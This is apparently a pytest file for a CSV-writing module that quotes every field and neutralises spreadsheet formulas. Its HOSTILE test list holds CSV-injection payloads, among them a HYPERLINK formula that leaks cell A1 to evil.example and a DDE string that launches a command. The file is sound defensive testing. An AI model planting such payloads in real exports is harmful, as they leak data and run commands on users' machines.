"""core/safe_csv.py: every CSV Flux writes quotes every field and shows formulas as text, whatever
separator the spreadsheet splits on (issue 10, finding 9)."""

from __future__ import annotations

import csv
import io

import pytest

from core import safe_csv
from core.testing.spreadsheet import assert_spreadsheet_safe, is_formula


@pytest.mark.parametrize(("value", "expected"), [
    ("=1+2", "'=1+2"), ("+33 6", "'+33 6"), ("-Lunch", "'-Lunch"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\tx", "'\tx"), ("\rx", "'\rx"), ("Rent", "Rent"), ("", ""), ("a=b", "a=b"), (None, ""),
    # After a separator or a line break inside the cell, for a program that ignores the quotes.
    ("x;=1+1;y", "x;'=1+1;y"), ("x,=1+1,y", "x,'=1+1,y"), ("x; -2+3", "x; '-2+3"), ("a\n@b", "a\n'@b"),
    ("=a;=b", "'=a;'=b"), ("a;;+b", "a;;'+b"), ("a;b", "a;b"), ("12,50", "12,50"),
    # Plain numbers are numbers: Flux's signed amounts must stay summable.
    ("-12.50", "-12.50"), ("1235.00", "1235.00"), ("42", "42"), (7, "7"),
    # Not a plain number: text, neutralised.
    ("-12.50 EUR", "'-12.50 EUR"), ("-1+1", "'-1+1"), ("+12.50", "'+12.50"),
])
def test_safe_cell(value, expected):
    assert safe_csv.safe_cell(value) == expected


def write(rows) -> str:
    buffer = io.StringIO()
    safe_csv.writer(buffer).writerows(rows)
    return buffer.getvalue()


HOSTILE = ["x;=1+1;y", "x,=1+1,y", '=HYPERLINK("http://evil.example/?a="&A1;"Click")', "-2+3+cmd|' /C calc'!A0",
           "@SUM(A1:A2)", "line\n=1+1", '"=1+1', "a; +1"]


@pytest.mark.parametrize("text", HOSTILE)
def test_every_field_is_quoted_and_no_reading_finds_a_formula(text):
    raw = write([["2026-10-01", text, "-12.50", 42], [], ["Closing balance", "1235.00"]])
    # Every field quoted: `;` inside a field cannot split it for a `;` spreadsheet either.
    assert raw.startswith('"2026-10-01","') and '"-12.50","42"\r\n' in raw
    rows = assert_spreadsheet_safe(raw)
    assert rows == [["2026-10-01", safe_csv.safe_cell(text), "-12.50", "42"], [], ["Closing balance", "1235.00"]]
    assert rows[0][1].replace("'", "") == text.replace("'", "")  # only apostrophes were added


def test_the_quotes_are_what_keeps_a_semicolon_reference_in_one_cell():
    """Read with `;` (the French default) and quotes honoured, the reference is one cell."""
    raw = write([["x;=1+1;y"]])
    assert raw == "\"x;'=1+1;y\"\r\n"
    assert list(csv.reader(io.StringIO(raw), delimiter=";")) == [["x;'=1+1;y"]]


def test_the_old_writer_would_fail_these_checks():
    """The check itself can fail: the unquoted, unneutralised output of before is caught."""
    buffer = io.StringIO()
    csv.writer(buffer, lineterminator="\r\n").writerow(["2026-10-01", "x;=1+1;y", "-12.50"])
    assert any(is_formula(cell) for row in csv.reader(io.StringIO(buffer.getvalue()), delimiter=";") for cell in row)
    with pytest.raises(AssertionError):
        assert_spreadsheet_safe(buffer.getvalue())


def test_writerow_returns_the_line_for_streaming():
    class Echo:
        def write(self, text: str) -> str:
            return text

    assert safe_csv.writer(Echo()).writerow(["=1", "-5"]) == "\"'=1\",\"-5\"\r\n"
